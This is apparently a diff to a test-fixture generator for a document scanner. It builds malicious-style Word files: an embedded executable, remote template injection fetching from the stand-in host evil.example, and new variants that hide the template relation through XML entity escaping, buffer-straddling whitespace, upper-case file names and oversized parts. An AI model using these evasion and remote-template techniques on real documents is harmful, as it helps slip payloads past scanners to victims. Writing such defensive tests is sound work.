@@ -152,9 +152,25 @@ def archives() -> Iterator[Weapon]:
     yield Weapon("object.docx", word({"word/embeddings/oleObject1.bin": EXE}))
     template = RELATION.format(kind="attachedTemplate", to="https://evil.example/t.dotm")
     yield Weapon("template.docx", word({"word/_rels/settings.xml.rels": template}))
+    yield from disguised_templates(template)
     yield Weapon("template16.docx", word({"word/_rels/settings.xml.rels": template.encode("utf-16")}))
     link = RELATION.format(kind="hyperlink", to="https://evil.example")
     yield Weapon("link.docx", word({"word/_rels/document.xml.rels": link}), "docx")
+
+
+def disguised_templates(template: str) -> Iterator[Weapon]:
+    """The same to whoever reads XML, not to whoever searches for words."""
+    spelled = {"external": ("External", "&#69;xternal"), "kind": ("attachedTemplate", "attached&#84;emplate")}
+    for name, (word_, escaped) in spelled.items():
+        changed = template.replace(word_, escaped)
+        yield Weapon(f"template-{name}.docx", word({"word/_rels/settings.xml.rels": changed}))
+    straddling = template.replace(" TargetMode", f"{' ' * 65_500} TargetMode")
+    yield Weapon("template-straddling.docx", word({"word/_rels/settings.xml.rels": straddling}))
+    yield Weapon("template-upper.docx", word({"word/_rels/settings.xml.RELS": template}))
+    yield Weapon("relations.docx", word({"word/_rels/settings.xml.rels": "<Relationships>"}))
+    yield Weapon("long-relations.docx", word({"word/_rels/settings.xml.rels": f"<a>{' ' * MEGABYTE}</a>"}))
+    escaped = '<Types><Override ContentType="x.macro&#69;nabled.main"/></Types>'
+    yield Weapon("enabled-spelled.docx", word({TYPES: escaped}))
 
 
 def spreadsheets() -> Iterator[Weapon]:
